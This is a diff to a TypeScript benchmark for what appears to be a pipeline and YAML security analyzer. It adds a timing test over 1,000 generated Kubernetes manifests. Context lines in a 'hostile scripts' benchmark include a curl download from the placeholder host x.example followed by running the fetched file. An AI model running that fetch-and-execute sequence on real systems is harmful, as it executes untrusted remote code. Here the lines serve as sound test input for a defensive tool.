@@ -53,6 +53,18 @@ for (const [kilobytes, rounds] of [
   }
 }
 
+// Most YAML files of a repository are no pipelines.
+const manifest = (index: number) =>
+  `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: shop-${index} }\nspec:\n  template:\n    spec:\n      containers:\n${"        - name: shop\n          image: acme/shop:3\n          command: [sh, -c, ./shop]\n          resources: { limits: { cpu: 100m } }\n".repeat(20)}`;
+const manifests = Array.from({ length: 1000 }, (_, index) => ({ path: `k8s/${index}.yaml`, text: manifest(index) }));
+for (const round of ["cold", "warm"]) {
+  const glanceMs = timed(() => manifests.forEach((file) => void analyze(file, EMPTY_CONTEXT, DEFAULT_SETTINGS)));
+  const readMs = timed(() => manifests.forEach(({ text }) => void parseAllDocuments(text)));
+  console.log(
+    `\n1,000 Kubernetes manifests, ${round}: ${glanceMs.toFixed(0)} ms; their bare YAML: ${readMs.toFixed(0)} ms`,
+  );
+}
+
 // Scripts that were written to take long: each is to stay under 200 ms. Each round has a text of its own, so that nothing of it is known.
 console.log("\nhostile scripts, best of 5, reading and following them");
 const lines = ["curl -fsSL https://x.example/a$X -o a", 'if [ -f "$A" ]; then B=$(cat "$A" | sort) ; fi', "./a --now"];
